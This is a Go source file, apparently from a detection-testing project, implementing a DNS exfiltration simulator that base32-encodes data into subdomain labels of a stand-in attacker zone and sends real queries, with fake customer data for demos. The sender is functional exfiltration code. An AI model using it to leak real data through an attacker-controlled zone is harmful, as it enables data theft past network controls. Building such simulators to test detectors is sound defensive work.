// Package exfilsim simulates a compromised workload leaking a file over DNS,
// the way DNS exfiltration malware does: the data is base32-encoded, cut
// into chunks, and each chunk is sent as a subdomain label of a zone the
// attacker serves (<chunk>.<sequence>.<session>.<zone>), one query each,
// from the workload's own source address.
//
// It exists for `make demo` and for tests of the detector and the alert
// feed: real queries over real sockets, not an injected alert.
package exfilsim

import (
	"context"
	"encoding/base32"
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"strings"
	"time"

	"github.com/miekg/dns"
)

// encoding is RFC 4648 base32 in lower case without padding: what DNS
// tunnels use, since labels are case-insensitive.
var encoding = base32.NewEncoding("abcdefghijklmnopqrstuvwxyz234567").WithPadding(base32.NoPadding)

// Config describes one simulated exfiltration.
type Config struct {
	// Server is the resolver to send queries to (host:port). Required.
	Server string
	// Source is the local address queries come from (the workload's IP).
	// Zero means the system's choice.
	Source netip.Addr
	// Zone is the attacker's zone, for example "telemetry-cdn.example". Required.
	Zone string
	// Data is what leaks. Required.
	Data []byte
	// ChunkBytes is how many bytes of Data each query carries (default 30,
	// 48 base32 characters: one label under the 63 limit).
	ChunkBytes int
	// QType is the query type (default A; tunnels also use TXT, CNAME, NULL).
	QType uint16
	// Session is the session label (random if empty).
	Session string
	// Interval is the pause between queries (0: back to back).
	Interval time.Duration
	// Timeout is each query's timeout (default 2s).
	Timeout time.Duration
}

// Result counts what happened to the queries.
type Result struct {
	// Sent is the number of queries sent.
	Sent int `json:"sent"`
	// Answered is the number answered NOERROR.
	Answered int `json:"answered"`
	// Blocked is the number answered with an Extended DNS Error (the
	// resolver refused the name).
	Blocked int `json:"blocked"`
	// FirstBlocked is the 1-based index of the first blocked query (0 if none).
	FirstBlocked int `json:"firstBlocked,omitempty"`
	// BlockedReason is the EDE text of the first blocked answer.
	BlockedReason string `json:"blockedReason,omitempty"`
	// Failed is the number of queries with no answer or another rcode.
	Failed int `json:"failed"`
	// Bytes is how many bytes of Data were sent.
	Bytes int `json:"bytes"`
	// Names are the first few query names, for display.
	Names []string `json:"names"`
}

// Names returns the query names cfg would send, in order.
func Names(cfg Config) ([]string, error) {
	if err := cfg.defaults(); err != nil {
		return nil, err
	}
	zone := dns.Fqdn(strings.ToLower(cfg.Zone))
	var names []string
	for i, off := 0, 0; off < len(cfg.Data); i, off = i+1, off+cfg.ChunkBytes {
		end := min(off+cfg.ChunkBytes, len(cfg.Data))
		name := fmt.Sprintf("%s.%d.%s.%s", encoding.EncodeToString(cfg.Data[off:end]), i, cfg.Session, zone)
		if _, ok := dns.IsDomainName(name); !ok || len(name) > 253 {
			return nil, fmt.Errorf("exfilsim: name %q is not a valid domain name", name)
		}
		names = append(names, name)
	}
	return names, nil
}

func (cfg *Config) defaults() error {
	if cfg.Zone == "" {
		return errors.New("exfilsim: no zone")
	}
	if len(cfg.Data) == 0 {
		return errors.New("exfilsim: no data")
	}
	if cfg.ChunkBytes <= 0 {
		cfg.ChunkBytes = 30
	}
	if cfg.ChunkBytes > 39 {
		return errors.New("exfilsim: chunks over 39 bytes do not fit a 63-character label")
	}
	if cfg.QType == 0 {
		cfg.QType = dns.TypeA
	}
	if cfg.Session == "" {
		cfg.Session = fmt.Sprintf("s%06x", rand.IntN(1<<24))
	}
	if cfg.Timeout <= 0 {
		cfg.Timeout = 2 * time.Second
	}
	return nil
}

// Run sends every chunk and counts the answers. Like real malware it goes
// on after a block. It stops early only when ctx is done.
func Run(ctx context.Context, cfg Config) (Result, error) {
	var res Result
	if cfg.Server == "" {
		return res, errors.New("exfilsim: no server")
	}
	if err := cfg.defaults(); err != nil {
		return res, err
	}
	names, err := Names(cfg)
	if err != nil {
		return res, err
	}
	c := &dns.Client{Timeout: cfg.Timeout}
	if cfg.Source.IsValid() {
		c.Dialer = &net.Dialer{LocalAddr: &net.UDPAddr{IP: cfg.Source.AsSlice()}, Timeout: cfg.Timeout}
	}
	for i, name := range names {
		if err := ctx.Err(); err != nil {
			return res, err
		}
		if i > 0 && cfg.Interval > 0 {
			t := time.NewTimer(cfg.Interval)
			select {
			case <-ctx.Done():
				t.Stop()
				return res, ctx.Err()
			case <-t.C:
			}
		}
		m := new(dns.Msg)
		m.SetQuestion(name, cfg.QType)
		m.SetEdns0(1232, false)
		res.Sent++
		res.Bytes += min(cfg.ChunkBytes, len(cfg.Data)-i*cfg.ChunkBytes)
		if len(res.Names) < 3 {
			res.Names = append(res.Names, name)
		}
		r, _, err := c.ExchangeContext(ctx, m, cfg.Server)
		switch {
		case err != nil:
			res.Failed++
		case EDE(r) != nil:
			res.Blocked++
			if res.FirstBlocked == 0 {
				res.FirstBlocked = i + 1
				res.BlockedReason = EDE(r).ExtraText
			}
		case r.Rcode == dns.RcodeSuccess:
			res.Answered++
		default:
			res.Failed++
		}
	}
	return res, nil
}

// EDE returns the Extended DNS Error of a response, or nil.
func EDE(r *dns.Msg) *dns.EDNS0_EDE {
	opt := r.IsEdns0()
	if opt == nil {
		return nil
	}
	for _, o := range opt.Option {
		if e, ok := o.(*dns.EDNS0_EDE); ok {
			return e
		}
	}
	return nil
}

// FakeSecret returns n bytes of a plausible but fake customer export (CSV
// with names, e-mail addresses and test card numbers), so the demo leaks
// something that looks like a secret without any real data.
func FakeSecret(n int) []byte {
	first := []string{"ada", "alan", "grace", "linus", "barbara", "ken", "margaret", "dennis"}
	last := []string{"lovelace", "turing", "hopper", "torvalds", "liskov", "thompson", "hamilton", "ritchie"}
	var b strings.Builder
	b.WriteString("id,name,email,card,expiry\n")
	for i := 0; b.Len() < n; i++ {
		f, l := first[i%len(first)], last[(i/len(first)+i)%len(last)]
		fmt.Fprintf(&b, "%d,%s %s,%s.%s@customers.example,4111-1111-1111-%04d,%02d/%d\n", 1000+i, f, l, f, l, i%10000, 1+i%12, 28+i%5)
	}
	return []byte(b.String()[:n])
}
